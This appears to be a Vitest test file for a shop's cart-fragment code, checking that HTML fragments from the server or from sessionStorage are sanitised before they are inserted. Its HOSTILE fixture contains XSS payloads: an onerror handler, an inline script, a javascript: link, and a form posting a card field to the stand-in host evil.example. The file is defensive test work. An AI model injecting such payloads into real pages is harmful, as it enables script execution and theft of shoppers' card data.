// @vitest-environment jsdom
/** Cart fragments through the one sanitiser: fresh from the server and replayed from sessionStorage. */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeCartDeps, type FakeCartDeps } from '../../test/fixtures/cart-deps';
import { useShopConfig } from '../../test/fixtures/shop-config';
import { writeCachedFragments } from './cache';
import { applyFragments, changedFragments } from './fragments';
import { readFragmentParams } from './params';
import { CartStore, FRAGMENT_ISLANDS } from './store';

const params = readFragmentParams({ cart_hash_key: 'wc_cart_hash_x', fragment_name: 'wc_fragments_x', request_timeout: '5000' });
const fragments = { 'div.widget_shopping_cart_content': '<div class="widget_shopping_cart_content">2 Artikel</div>' };

/** What a compromised or injected fragment could carry. */
const HOSTILE = `<div class="widget_shopping_cart_content"><img src="x" onerror="window.__pwned=1"><script>window.__pwned=2</script>
<a href="javascript:window.__pwned=3" class="remove_from_cart_button">x</a><style>body{display:none}</style>
<form action="https://evil.example/steal"><input name="card"></form><div data-island="lazy-scripts">l</div>
<div class="quantity" data-island="quantity"><input class="qty" value="2"></div></div>`;

function expectDefused(root: ParentNode) {
  const cart = root.querySelector('.widget_shopping_cart_content')!;
  expect(cart.querySelector('script, style')).toBeNull();
  expect(cart.querySelector('img')!.hasAttribute('onerror')).toBe(false);
  expect(cart.querySelector('a')!.getAttribute('href') ?? '').not.toMatch(/javascript:/);
  expect(cart.querySelector('form')!.hasAttribute('action')).toBe(false);
  // only the island the fragments need stays a host
  expect([...cart.querySelectorAll('[data-island]')].map((host) => host.getAttribute('data-island'))).toEqual(['quantity']);
  expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
}

describe('applyFragments', () => {
  afterEach(() => {
    document.body.innerHTML = '';
  });

  it('replaces every matching element with the server HTML and skips bad selectors', async () => {
    document.body.innerHTML =
      '<span class="cart-count">0</span><span class="cart-count">0</span><div class="widget_shopping_cart_content">alt</div>';
    await applyFragments(
      {
        'span.cart-count': '<span class="cart-count">3</span>',
        '::nonsense(': '<b>x</b>',
        'div.widget_shopping_cart_content': '<div class="widget_shopping_cart_content">neu</div>',
      },
      { islands: FRAGMENT_ISLANDS },
    );
    expect([...document.querySelectorAll('.cart-count')].map((element) => element.textContent)).toEqual(['3', '3']);
    expect(document.querySelector('.widget_shopping_cart_content')!.textContent).toBe('neu');
  });

  it('puts hostile fresh fragments in place defused', async () => {
    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
    await applyFragments({ 'div.widget_shopping_cart_content': HOSTILE }, { islands: FRAGMENT_ISLANDS });
    expectDefused(document.body);
  });
});

describe('changedFragments: fragments that would rebuild what the page shows are left alone', () => {
  afterEach(() => {
    document.body.innerHTML = '';
    delete (window as unknown as { __pwned?: number }).__pwned;
  });
  const PRINTED = '<div class="widget_shopping_cart_content"><ul><li>Tasse <input class="qty" value="1"></li></ul></div>';

  it('drops a fragment equal to the printed element (runtime attributes aside), keeps one that differs', () => {
    document.body.innerHTML = `${PRINTED}<span class="cart-count">1</span>`;
    document.querySelector('.qty')!.setAttribute('data-island-state', 'mounted');
    expect(
      changedFragments({
        'div.widget_shopping_cart_content': `\n${PRINTED}\n`,
        'span.cart-count': '<span class="cart-count">2</span>',
        'span.nowhere': '<span class="nowhere">x</span>',
        '::nonsense(': '<b>x</b>',
      }),
    ).toEqual({ 'span.cart-count': '<span class="cart-count">2</span>' });
  });

  it('ignores attributes scripts added to the page, not ones the server changed', () => {
    document.body.innerHTML = '<div class="box"><input type="button" value="-" class="minus"></div>';
    document.querySelector('.minus')!.setAttribute('aria-label', 'Menge verringern');
    expect(changedFragments({ 'div.box': '<div class="box"><input type="button" value="-" class="minus"></div>' })).toEqual({});
    expect(
      Object.keys(
        changedFragments({ 'div.box': '<div class="box"><input type="button" value="-" class="minus" aria-label="Weniger"></div>' }),
      ),
    ).toEqual(['div.box']);
    expect(Object.keys(changedFragments({ 'div.box': '<div class="box"><input type="button" value="–" class="minus"></div>' }))).toEqual([
      'div.box',
    ]);
  });

  it('keeps a fragment when the shopper edited a field in it: the server’s value must come back', () => {
    document.body.innerHTML = PRINTED;
    document.querySelector<HTMLInputElement>('.qty')!.value = '4';
    expect(Object.keys(changedFragments({ 'div.widget_shopping_cart_content': PRINTED }))).toEqual(['div.widget_shopping_cart_content']);
  });

  it('keeps a fragment of several elements, and runs nothing of a hostile one while comparing', () => {
    document.body.innerHTML = PRINTED;
    const changed = changedFragments({ 'div.widget_shopping_cart_content': `${PRINTED}<p>more</p>` });
    expect(Object.keys(changed)).toHaveLength(1);
    changedFragments({ 'div.widget_shopping_cart_content': HOSTILE });
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('applyFragments leaves unchanged elements in place (their listeners and roots stay)', async () => {
    document.body.innerHTML = PRINTED;
    const shown = document.querySelector('.widget_shopping_cart_content');
    await applyFragments({ 'div.widget_shopping_cart_content': PRINTED }, { islands: FRAGMENT_ISLANDS });
    expect(document.querySelector('.widget_shopping_cart_content')).toBe(shown);
  });
});

describe('fragments replayed from sessionStorage', () => {
  let calls: string[];
  let deps: FakeCartDeps;
  beforeEach(() => {
    deps = fakeCartDeps();
    useShopConfig();
    calls = [];
    vi.stubGlobal(
      'fetch',
      vi.fn(async (url: string, init: RequestInit) => {
        calls.push(`${url} ${String(init.body ?? '')}`);
        return new Response(JSON.stringify({ fragments, cart_hash: 'h1' }));
      }),
    );
    deps.jar.set('woocommerce_items_in_cart', '1');
  });
  afterEach(() => {
    vi.unstubAllGlobals();
    delete (globalThis as Record<string, unknown>).shopIslands;
    document.body.innerHTML = '';
  });

  it('uses valid cached fragments instead of a request, and refreshes when the hash differs', async () => {
    deps.jar.set('woocommerce_cart_hash', 'h1');
    writeCachedFragments(deps.storage, params, fragments, 'h1', deps.clock.now);
    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
    const cached = new CartStore(params, deps);
    cached.start();
    await vi.waitFor(() => expect(document.querySelector('.widget_shopping_cart_content')!.textContent).toBe('2 Artikel'));
    expect(calls).toEqual([]);
    cached.stop();
    deps.jar.set('woocommerce_cart_hash', 'h2');
    const stale = new CartStore(params, deps);
    stale.start();
    await stale.queue.drained();
    expect(calls).toEqual([expect.stringMatching(/^\/\?wc-ajax=get_refreshed_fragments time=\d+$/)]);
    stale.stop();
  });

  it('puts hostile cached fragments in place defused (sessionStorage is writable by any script of the origin)', async () => {
    deps.jar.set('woocommerce_cart_hash', 'h1');
    writeCachedFragments(deps.storage, params, { 'div.widget_shopping_cart_content': HOSTILE }, 'h1', deps.clock.now);
    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
    const store = new CartStore(params, deps);
    store.start();
    await vi.waitFor(() => expect(document.querySelector('.widget_shopping_cart_content')!.textContent).not.toBe('alt'));
    expect(calls).toEqual([]);
    expectDefused(document.body);
    store.stop();
  });
});
